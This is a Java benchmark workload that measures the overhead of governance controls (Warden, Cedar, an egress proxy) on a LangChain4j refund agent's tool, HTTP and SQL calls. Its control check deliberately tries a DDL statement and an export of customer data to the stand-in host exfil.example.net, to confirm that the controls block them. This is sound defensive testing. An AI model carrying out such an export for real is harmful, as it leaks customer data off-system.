package dev.warden.bench.workload;

import com.sun.management.OperatingSystemMXBean;
import com.sun.management.ThreadMXBean;
import dev.langchain4j.memory.chat.MessageWindowChatMemory;
import dev.langchain4j.model.openai.OpenAiChatModel;
import dev.langchain4j.service.AiServices;
import dev.warden.examples.refund.RefundTools;
import dev.warden.examples.refund.SupportAgent;
import dev.warden.examples.support.CustomerDatabase;
import dev.warden.examples.support.SupportDesk;
import dev.warden.examples.support.ToolFailure;
import java.lang.management.ManagementFactory;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CyclicBarrier;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicReference;
import org.HdrHistogram.Histogram;

/**
 * The application the overhead harness measures, one forked JVM per variant and round: the refund
 * agent's three kinds of governed calls, driven in loops.
 * <ul>
 *   <li>{@code tool}: one agent step through LangChain4j — {@code SupportAgent.handle} against the
 *       scripted model (two chat-completion POSTs), which calls the example's {@code lookupCustomer}
 *       tool (its SQL SELECT on H2) in between;</li>
 *   <li>{@code http}: the example's {@code SupportDesk.issueRefund}: a JSON POST to the payments service
 *       with the JDK HttpClient;</li>
 *   <li>{@code sql}: the example's {@code SupportDesk.lookupCustomer}: a prepared SELECT on the embedded
 *       H2 {@code customers} table through its connection pool.</li>
 * </ul>
 * Variants: {@code none} and {@code warden} run the same code (Warden enters only as {@code -javaagent});
 * {@code cedar} asks {@link CedarGuard} before each governed call, as a team would write it;
 * {@code proxy} is {@code none} with the JVM's HTTP proxy settings pointing at {@link EgressProxy}.
 * Every call's answer is checked, so a silently refused call fails the run instead of looking fast.
 *
 * <p>Per kind: a warm-up (not reported), then {@code N} calls on one thread, each timed into an
 * HdrHistogram, with the bytes the calling thread allocated, the bytes all live threads allocated and
 * the process CPU time over those calls; then throughput with 1, 2 and 8 threads for a fixed time.
 * Then a check that the variant's control is live (a denied action must be refused), the RSS, the
 * committed heap, and the heap still live after a full GC.
 *
 * <p>Run (by the harness): {@code java [agent or proxy flags] -jar overhead-workload.jar variant=V
 * models=U1,U2,.. payments=U mail=U tool=N http=N sql=N seconds=S threads=1,2,8}.
 * Output: {@code key: value} lines on stdout. Exit 2 on bad arguments, 3 when the workload failed
 * (one {@code error: ...} line). Threads: main plus the throughput workers it starts and joins.
 */
public final class OverheadWorkload {
    private static final ThreadMXBean THREADS = (ThreadMXBean) ManagementFactory.getThreadMXBean();
    private static final OperatingSystemMXBean OS = (OperatingSystemMXBean) ManagementFactory.getOperatingSystemMXBean();

    /** One governed call of one kind, made by workload thread {@code thread}. */
    interface Call {
        void run(int thread) throws Exception;
    }

    public static void main(String[] args) {
        long mainAt = System.currentTimeMillis();
        out("main-at", mainAt);
        out("rss-at-main-kb", status("VmRSS"));
        Map<String, String> opts = new HashMap<>();
        for (String a : args) {
            int eq = a.indexOf('=');
            if (eq <= 0) {
                System.err.println("overhead-workload: expected key=value arguments, not " + a);
                System.exit(2);
            }
            opts.put(a.substring(0, eq), a.substring(eq + 1));
        }
        try {
            run(opts);
        } catch (IllegalArgumentException e) {
            System.err.println("overhead-workload: " + e.getMessage());
            System.exit(2);
        } catch (Throwable e) {
            out("error", oneLine(e));
            System.exit(3);
        }
        System.exit(0);
    }

    static void run(Map<String, String> o) throws Exception {
        String variant = required(o, "variant");
        if (!List.of("none", "warden", "cedar", "proxy").contains(variant)) {
            throw new IllegalArgumentException("variant must be none, warden, cedar or proxy, not " + variant);
        }
        String[] models = required(o, "models").split(",");
        String payments = required(o, "payments");
        String mail = required(o, "mail");
        int[] threads = Arrays.stream(o.getOrDefault("threads", "1,2,8").split(",")).mapToInt(Integer::parseInt).toArray();
        int maxThreads = Arrays.stream(threads).max().orElse(1);
        if (models.length < maxThreads) {
            throw new IllegalArgumentException(maxThreads + " threads need " + maxThreads + " model servers, got " + models.length);
        }
        Map<String, Integer> counts = new LinkedHashMap<>();
        for (String kind : List.of("tool", "http", "sql")) {
            counts.put(kind, Integer.parseInt(required(o, kind)));
        }
        long runNanos = (long) (Double.parseDouble(o.getOrDefault("seconds", "2")) * 1e9);

        CustomerDatabase db = new CustomerDatabase(CustomerDatabase.privateInMemoryUrl());
        SupportDesk desk = new SupportDesk(db, payments, mail);
        CedarGuard guard = variant.equals("cedar") ? new CedarGuard() : null;
        RefundTools refundTools = new RefundTools(desk);
        Object tools = guard == null ? refundTools : new CedarTools(refundTools, guard, payments, mail);
        SupportAgent[] agents = new SupportAgent[maxThreads];
        // what the tool returned in the step just taken (LangChain4j runs tools on the calling thread)
        ThreadLocal<String> toolResult = new ThreadLocal<>();
        for (int i = 0; i < maxThreads; i++) {
            OpenAiChatModel model = OpenAiChatModel.builder()
                    .baseUrl(models[i])
                    .apiKey("bench-key")
                    .modelName("gpt-4o-mini")
                    .timeout(Duration.ofSeconds(60))
                    .maxRetries(0)
                    .build();
            // a short window keeps every request the same size however many steps a session has taken
            agents[i] = AiServices.builder(SupportAgent.class)
                    .chatModel(model)
                    .tools(tools)
                    .chatMemoryProvider(id -> MessageWindowChatMemory.withMaxMessages(10))
                    .afterToolExecution(e -> toolResult.set(e.result()))
                    .build();
        }
        List<String> customers = List.of("customers");
        Map<String, Call> calls = new LinkedHashMap<>();
        calls.put("tool", t -> {
            toolResult.remove();
            expect(agents[t].handle("bench-session-" + t, "Please look up customer C-17."), World.ANSWER);
            expect(toolResult.get(), "Ada Lovelace");
        });
        calls.put("http", t -> {
            if (guard != null) {
                guard.http("POST", payments + "/refunds");
            }
            expect(desk.issueRefund("C-17", 20.0), "issued");
        });
        calls.put("sql", t -> {
            if (guard != null) {
                guard.sql("SELECT", customers);
            }
            expect(desk.lookupCustomer("C-17"), "Ada Lovelace");
        });
        out("ready-at", System.currentTimeMillis());
        out("rss-at-ready-kb", status("VmRSS"));
        out("jvm", System.getProperty("java.vm.name") + " " + System.getProperty("java.runtime.version"));

        for (Map.Entry<String, Call> e : calls.entrySet()) {
            String kind = e.getKey();
            Call call = e.getValue();
            int n = counts.get(kind);
            // warm-up, not reported: the one-thread loop and the most concurrent run
            latency(call, Math.max(n / 2, 1));
            throughput(call, maxThreads, runNanos / 2);

            long cpu0 = OS.getProcessCpuTime();
            Map<Long, Long> jvm0 = allocatedByThread();
            long mine0 = THREADS.getCurrentThreadAllocatedBytes();
            Histogram h = latency(call, n);
            long mine = THREADS.getCurrentThreadAllocatedBytes() - mine0;
            long jvm = allocatedSince(jvm0);
            long cpu = OS.getProcessCpuTime() - cpu0;
            out(kind + ".calls", n);
            out(kind + ".caller-bytes-per-call", mine / n);
            out(kind + ".jvm-bytes-per-call", jvm / n);
            out(kind + ".cpu-ns-per-call", cpu / n);
            out(kind + ".hist", encode(h));
            for (int t : threads) {
                out(kind + ".tput." + t, String.format("%.1f", throughput(call, t, runNanos)));
            }
        }
        out("control", controlCheck(variant, desk, guard));
        out("rss-end-kb", status("VmRSS"));
        out("rss-anon-end-kb", status("RssAnon"));
        out("rss-file-end-kb", status("RssFile") + Math.max(0, status("RssShmem")));
        out("hwm-kb", status("VmHWM"));
        // retained memory or heap sizing? the heap G1 has grown to, then what is still live after a full GC
        java.lang.management.MemoryMXBean mem = ManagementFactory.getMemoryMXBean();
        out("heap-committed-end-kb", mem.getHeapMemoryUsage().getCommitted() / 1024);
        mem.gc();
        out("heap-live-end-kb", mem.getHeapMemoryUsage().getUsed() / 1024);
        db.close();
        out("done", "true");
    }

    /** {@code n} calls on this thread, each timed. */
    static Histogram latency(Call call, int n) throws Exception {
        Histogram h = new Histogram(TimeUnit.SECONDS.toNanos(60), 3);
        for (int i = 0; i < n; i++) {
            long t0 = System.nanoTime();
            call.run(0);
            h.recordValue(Math.min(System.nanoTime() - t0, h.getHighestTrackableValue()));
        }
        return h;
    }

    /** Calls per second with {@code threads} threads calling as fast as they can for {@code nanos}. */
    static double throughput(Call call, int threads, long nanos) throws Exception {
        CyclicBarrier start = new CyclicBarrier(threads + 1);
        long[] done = new long[threads];
        AtomicReference<Throwable> failure = new AtomicReference<>();
        long[] deadline = new long[1];
        List<Thread> workers = new ArrayList<>();
        for (int t = 0; t < threads; t++) {
            int me = t;
            Thread w = new Thread(() -> {
                try {
                    start.await();
                    long end = deadline[0];
                    long n = 0;
                    while (System.nanoTime() < end && failure.get() == null) {
                        call.run(me);
                        n++;
                    }
                    done[me] = n;
                } catch (Throwable e) {
                    failure.compareAndSet(null, e);
                }
            }, "bench-worker-" + t);
            workers.add(w);
        }
        workers.forEach(Thread::start);
        long t0 = System.nanoTime();
        deadline[0] = t0 + nanos; // published to the workers by the barrier
        start.await();
        for (Thread w : workers) {
            w.join();
        }
        long elapsed = System.nanoTime() - t0;
        if (failure.get() != null) {
            throw new IllegalStateException("a throughput worker failed: " + oneLine(failure.get()), failure.get());
        }
        return Arrays.stream(done).sum() * 1e9 / elapsed;
    }

    /** Checks that the variant's control refuses what the refund-agent policy forbids; returns what happened. */
    static String controlCheck(String variant, SupportDesk desk, CedarGuard guard) {
        switch (variant) {
            case "warden":
                // no-ddl: Warden must refuse the statement before H2 sees it
                try {
                    desk.runSql("CREATE TABLE bench_probe (x INT)");
                    throw new IllegalStateException("control check: Warden let a DDL statement through (is the agent attached?)");
                } catch (ToolFailure e) {
                    return "denied: " + oneLine(e);
                }
            case "cedar":
                try {
                    guard.sql("DDL", List.of("bench_probe"));
                    throw new IllegalStateException("control check: Cedar allowed a DDL statement");
                } catch (ToolFailure e) {
                    return "denied: " + oneLine(e);
                }
            case "proxy":
                // egress to a host off the allowlist: the proxy answers 403 without resolving or contacting it
                try {
                    desk.exportReport("C-17", "http://exfil.example.net/upload");
                    throw new IllegalStateException("control check: the proxy forwarded a request to exfil.example.net");
                } catch (ToolFailure e) {
                    if (!e.getMessage().contains("answered 403") || !e.getMessage().contains("not on the allowlist")) {
                        throw new IllegalStateException("control check: expected the proxy's 403, got: " + oneLine(e));
                    }
                    return "denied: the proxy answered 403 to POST http://exfil.example.net/upload (not on the allowlist)";
                }
            default:
                return "none (no control)";
        }
    }

    static void expect(String answer, String fragment) {
        if (answer == null || !answer.contains(fragment)) {
            throw new IllegalStateException("unexpected answer (no \"" + fragment + "\"): " + (answer == null ? null : oneLine(answer)));
        }
    }

    static Map<Long, Long> allocatedByThread() {
        long[] ids = THREADS.getAllThreadIds();
        long[] bytes = THREADS.getThreadAllocatedBytes(ids);
        Map<Long, Long> m = new HashMap<>();
        for (int i = 0; i < ids.length; i++) {
            if (bytes[i] >= 0) {
                m.put(ids[i], bytes[i]);
            }
        }
        return m;
    }

    /** Bytes allocated since {@code before} by the threads alive now (threads that ended meanwhile are not counted). */
    static long allocatedSince(Map<Long, Long> before) {
        long sum = 0;
        for (Map.Entry<Long, Long> e : allocatedByThread().entrySet()) {
            sum += e.getValue() - before.getOrDefault(e.getKey(), 0L);
        }
        return sum;
    }

    static String encode(Histogram h) {
        ByteBuffer buf = ByteBuffer.allocate(h.getNeededByteBufferCapacity());
        int len = h.encodeIntoCompressedByteBuffer(buf);
        return Base64.getEncoder().encodeToString(Arrays.copyOf(buf.array(), len));
    }

    /** A field of /proc/self/status in kB, or -1 where there is none. */
    static long status(String field) {
        try {
            for (String line : Files.readAllLines(Path.of("/proc/self/status"))) {
                if (line.startsWith(field + ":")) {
                    return Long.parseLong(line.replaceAll("[^0-9]", ""));
                }
            }
        } catch (Exception e) {
            return -1;
        }
        return -1;
    }

    static String required(Map<String, String> o, String key) {
        String v = o.get(key);
        if (v == null || v.isBlank()) {
            throw new IllegalArgumentException("missing argument " + key + "=...");
        }
        return v;
    }

    static void out(String key, Object value) {
        System.out.println(key + ": " + value);
    }

    static String oneLine(Throwable t) {
        String m = t.getMessage();
        return oneLine(t.getClass().getSimpleName() + (m == null ? "" : ": " + m));
    }

    static String oneLine(String s) {
        String one = s.replaceAll("\\s+", " ").strip();
        return one.length() <= 400 ? one : one.substring(0, 397) + "...";
    }
}
